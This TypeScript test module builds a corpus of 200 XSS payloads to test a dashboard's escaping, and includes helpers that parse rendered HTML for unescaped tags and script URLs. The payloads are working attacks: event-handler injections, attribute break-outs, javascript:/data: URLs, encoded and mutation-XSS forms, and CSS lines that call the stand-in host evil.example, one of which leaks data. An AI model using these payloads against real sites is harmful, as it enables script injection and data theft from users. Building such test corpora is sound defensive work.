/**
 * 200 distinct markup-injection payloads (issue 17: "the 200 XSS payloads of the dashboard
 * tests"), built here by combining injection contexts rather than copied from a list: tags and
 * event handlers, attribute and element break-outs, javascript:/data: URLs, entity, percent and
 * unicode encodings, template syntax ({{...}}, ${...}), CSS, SVG and MathML, broken markup, NUL
 * bytes and bidi/invisible characters.
 *
 * Each family is generated on its own, then the families are taken in turn (round robin), so the
 * first 200 distinct strings cover every family. Deterministic: the same 200 on every run.
 */

const CALL = 'alert(1)';

/** Elements that run script or load something when parsed, each with its trigger. */
const tagVectors: readonly string[] = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<base href="javascript:${CALL}//">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<a href="javascript:${CALL}">click</a>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<keygen autofocus onfocus=${CALL}>`,
  `<link rel=stylesheet href="javascript:${CALL}">`,
  `<table background="javascript:${CALL}">`,
  `<isindex type=image src=1 onerror=${CALL}>`,
  `<template><script>${CALL}</script></template>`,
];

/** Event handler attributes, each put on an element that fires it without a click. */
const handlers: ReadonlyArray<readonly [element: string, handler: string]> = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['div style="animation-name:x"', 'onanimationstart'],
  ['div tabindex=1', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onloadstart'],
  ['div', 'onmouseover'],
  ['p', 'onpointerenter'],
  ['a href=#', 'onclick'],
  ['style', 'onload'],
];
const handlerQuotes: readonly string[] = ['', '"', "'", '`'];

/** Where a value could land, and the text that leaves that place. */
const breakouts: readonly string[] = [
  '"',
  "'",
  '">',
  "'>",
  '/>',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</option></select>',
  '*/',
  '`',
  '</p></div></td></tr></table>',
  '\\"',
];
const afterBreakout: readonly string[] = [
  `<img src=x onerror=${CALL}>`,
  `<script>${CALL}</script>`,
  ` onmouseover=${CALL} x="`,
  `<svg/onload=${CALL}>`,
];

/** javascript:, data: and vbscript: URLs, with the spellings filters miss. */
const schemes: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  ` javascript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;&#x61;vascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `%6A%61vascript:${CALL}`,
  `javascript://%0A${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `vbscript:msgbox(1)`,
];
const urlCarriers: ReadonlyArray<(url: string) => string> = [
  (url) => url,
  (url) => `<a href="${url}">x</a>`,
  (url) => `<iframe src="${url}">`,
  (url) => `<object data="${url}">`,
];

/** The same markup, encoded so that a decoder somewhere could turn it back into markup. */
const encodedForms: ReadonlyArray<(markup: string) => string> = [
  (m) => m.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (m) => m.replace(/</g, '&#60;').replace(/>/g, '&#62;'),
  (m) => m.replace(/</g, '&#x3C;').replace(/>/g, '&#x3E;'),
  (m) => m.replace(/</g, '&#0000060').replace(/>/g, '&#0000062'),
  (m) => m.replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;'),
  (m) => m.replace(/</g, '\\u003c').replace(/>/g, '\\u003e'),
  (m) => m.replace(/</g, '\\x3c').replace(/>/g, '\\x3e'),
  (m) => m.replace(/</g, '%3C').replace(/>/g, '%3E'),
  (m) => m.replace(/</g, '%253C').replace(/>/g, '%253E'),
  (m) => m.replace(/</g, '\uFF1C').replace(/>/g, '\uFF1E'),
  (m) => m.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (m) => m.replace(/</g, '\u02C2').replace(/>/g, '\u02C3'),
];
const encodedMarkup: readonly string[] = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
];

/** Template and expression syntax of the e-mail templates and of other engines. */
const templateSyntax: readonly string[] = [
  '{{name}}',
  '{{ review_link }}',
  '{{message}}{{email}}',
  '{{{name}}}',
  '{{7*7}}',
  "{{constructor.constructor('alert(1)')()}}",
  "{{$on.constructor('alert(1)')()}}",
  '${alert(1)}',
  '${7*7}',
  '`${alert(1)}`',
  '#{alert(1)}',
  '<%= 7*7 %>',
  '[[7*7]]',
  '{% raw %}{{name}}{% endraw %}',
  '}}{{',
  '{{name',
  '{{nmae}}',
  `{{name}}<img src=x onerror=${CALL}>`,
  '$' + '{{name}}',
  '{{__proto__}}',
];

/** Style sheets and inline styles that run script or reach out (old engines and mail clients). */
const cssVectors: readonly string[] = [
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>body{background:url("javascript:${CALL}")}</style>`,
  `<div style="background:url(javascript:${CALL})">x</div>`,
  `<div style="width:expression(${CALL})">x</div>`,
  `<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>`,
  `<style>*{display:none}</style>`,
  `<style>a[href^="https"]{background:url(https://evil.example/leak)}</style>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red">overlay</p>`,
  `</style><script>${CALL}</script>`,
  `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart=${CALL}></div>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `x{}</style><img src=x onerror=${CALL}>`,
];

/** SVG and MathML: other parsing rules inside foreign content (mutation XSS). */
const foreignVectors: readonly string[] = [
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${CALL}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/></svg>`,
  `<math href="javascript:${CALL}">click</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><maction actiontype=statusline xlink:href="javascript:${CALL}">x</maction></math>`,
  `<svg><desc><![CDATA[</desc><script>${CALL}</script>]]></svg>`,
  `<svg><title><img src=x onerror=${CALL}></title></svg>`,
];

/** Markup a lenient parser repairs into something that runs. */
const brokenMarkup: readonly string[] = [
  `<img src=x onerror=${CALL}//`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>script>${CALL}<</script>/script>`,
  `<img """><script>${CALL}</script>">`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<a href="x`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<img/src=x/onerror=${CALL}>`,
  `<svg/onload=${CALL}`,
  `<img src=x onerror="${CALL}"`,
  `<div><p>unclosed`,
  `</div></div></div></body></html>`,
  `<img src=\`x\`onerror=${CALL}>`,
  `<a"'><img src=x onerror=${CALL}>`,
  `<iframe srcdoc="&lt;script&gt;${CALL}&lt;/script&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<title><img src=x onerror=${CALL}></title>`,
  `<x onclick=${CALL}>custom`,
  `<img src=x onerror=${CALL} `,
  `<?xml version="1.0"?><script>${CALL}</script>`,
];

/** NUL bytes where filters split words; the intake drops them (lead-schema.ts). */
const nulVectors: readonly string[] = [
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `<img src=x on\u0000error=${CALL}>`,
  `<a href="java\u0000script:${CALL}">x</a>`,
  `\u0000<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>\u0000`,
  `<svg\u0000onload=${CALL}>`,
  `<\u0000img src=x onerror=${CALL}>`,
  `"\u0000><script>${CALL}</script>`,
];

/** Bidi overrides, invisible and odd whitespace characters around markup. */
const bidiVectors: readonly string[] = [
  '\u202Egnp.exe',
  `\u202E<script>${CALL}</script>`,
  `<img src=x \u202Eonerror=${CALL}>`,
  `\u200B<script>${CALL}</script>\u200B`,
  `\uFEFF<img src=x onerror=${CALL}>`,
  `<scr\u200Dipt>${CALL}</scr\u200Dipt>`,
  `line\u2028<script>${CALL}</script>`,
  `para\u2029<img src=x onerror=${CALL}>`,
  `\u0085<svg onload=${CALL}>`,
  `<img\u000Csrc=x\u000Conerror=${CALL}>`,
  `\u2066<b>isolate</b>\u2069`,
  `\u200E\u200F<i>marks</i>`,
  `\u00A0<a\u00A0href="javascript:${CALL}">x</a>`,
  `\u3000<script>${CALL}</script>`,
];

function* cycle<T>(items: readonly T[]): Generator<T> {
  for (const item of items) yield item;
}

/** Each family as a finite generator of strings. */
function families(): Array<Generator<string>> {
  const handlerFamily = function* () {
    for (const quote of handlerQuotes) {
      for (const [element, handler] of handlers) {
        yield `<${element} ${handler}=${quote}${CALL}${quote}>`;
      }
    }
  };
  const breakoutFamily = function* () {
    for (const after of afterBreakout) {
      for (const breakout of breakouts) yield `${breakout}${after}`;
    }
  };
  const urlFamily = function* () {
    for (const carry of urlCarriers) {
      for (const scheme of schemes) yield carry(scheme);
    }
  };
  const encodedFamily = function* () {
    for (const markup of encodedMarkup) {
      for (const encode of encodedForms) yield encode(markup);
    }
  };
  return [
    cycle(tagVectors),
    handlerFamily(),
    breakoutFamily(),
    urlFamily(),
    encodedFamily(),
    cycle(templateSyntax),
    cycle(cssVectors),
    cycle(foreignVectors),
    cycle(brokenMarkup),
    cycle(nulVectors),
    cycle(bidiVectors),
  ];
}

export const XSS_PAYLOAD_COUNT = 200;

function buildPayloads(): readonly string[] {
  const seen = new Set<string>();
  const sources = families();
  while (seen.size < XSS_PAYLOAD_COUNT) {
    let progressed = false;
    for (const source of sources) {
      const next = source.next();
      if (next.done) continue;
      progressed = true;
      seen.add(next.value);
      if (seen.size === XSS_PAYLOAD_COUNT) break;
    }
    if (!progressed) throw new Error(`only ${seen.size} distinct XSS payloads could be built`);
  }
  return Object.freeze([...seen]);
}

/** The corpus: exactly 200 distinct strings. */
export const xssPayloads: readonly string[] = buildPayloads();

/** What the corpus must contain: checked by its unit test. */
export const xssFamilies = {
  tagVectors,
  cssVectors,
  foreignVectors,
  brokenMarkup,
  nulVectors,
  bidiVectors,
  templateSyntax,
} as const;

// --- Checking rendered HTML ----------------------------------------------------------------

export interface HtmlShape {
  /** `tag` and `tag@attribute` for every start tag outside script/style text. */
  shapes: Set<string>;
  /** URL-bearing attribute values (href, src, action, formaction, data, xlink:href, srcdoc). */
  urls: string[];
  /** Number of <script> elements. */
  scripts: number;
  /** The text a reader sees: tags, comments, script and style bodies removed, entities decoded. */
  text: string;
}

const NAMED_ENTITIES: Record<string, string> = {
  amp: '&',
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
  nbsp: '\u00A0',
};

/** Decodes the entities React and escapeHtml write (named five, decimal, hex). */
export function decodeEntities(text: string): string {
  return text.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (whole, body: string) => {
    if (body[0] === '#') {
      const code =
        body[1] === 'x' || body[1] === 'X' ? parseInt(body.slice(2), 16) : Number(body.slice(1));
      return Number.isFinite(code) ? String.fromCodePoint(code) : whole;
    }
    return NAMED_ENTITIES[body.toLowerCase()] ?? whole;
  });
}

const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'xlink:href',
  'srcdoc',
  'background',
  'poster',
]);
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g;

/**
 * A tokenizer good enough for HTML our own code wrote: every `<` it did not mean is escaped,
 * so a payload that got through unescaped shows up here as a tag or an attribute the same page
 * without payloads does not have. Script and style bodies are raw text: skipped (a payload that
 * closes one early shows up as the tags after it).
 */
export function htmlShape(html: string): HtmlShape {
  const shapes = new Set<string>();
  const urls: string[] = [];
  let scripts = 0;
  const body = html.replace(/<!--[\s\S]*?-->/g, '');
  const tag = /<(\/?)([a-zA-Z][^\s/>]*)([^>]*)>/g;
  let text = '';
  let last = 0;
  for (let match = tag.exec(body); match; match = tag.exec(body)) {
    text += body.slice(last, match.index);
    last = tag.lastIndex;
    const [, closing, rawName, rawAttributes] = match as unknown as [
      string,
      string,
      string,
      string,
    ];
    if (closing) continue;
    const name = rawName.toLowerCase();
    shapes.add(name);
    for (const attribute of rawAttributes.matchAll(ATTRIBUTE)) {
      const attributeName = attribute[1]!.toLowerCase();
      shapes.add(`${name}@${attributeName}`);
      const value = attribute[2] ?? attribute[3] ?? attribute[4];
      if (value !== undefined && URL_ATTRIBUTES.has(attributeName))
        urls.push(decodeEntities(value));
    }
    if (name === 'script' || name === 'style') {
      if (name === 'script') scripts += 1;
      // Raw text up to the first closing tag, exactly as a browser ends it.
      const end = body.toLowerCase().indexOf(`</${name}`, last);
      last = tag.lastIndex = end === -1 ? body.length : end;
    }
  }
  text += body.slice(last);
  return { shapes, urls, scripts, text: decodeEntities(text) };
}

/** A URL a browser would run or render as a document: javascript:, vbscript:, data:. */
export function isScriptUrl(url: string): boolean {
  // eslint-disable-next-line no-control-regex -- browsers drop these before reading the scheme
  const compact = url.replace(/[\u0000-\u0020]/g, '').toLowerCase();
  return /^(javascript|vbscript|data):/.test(compact);
}
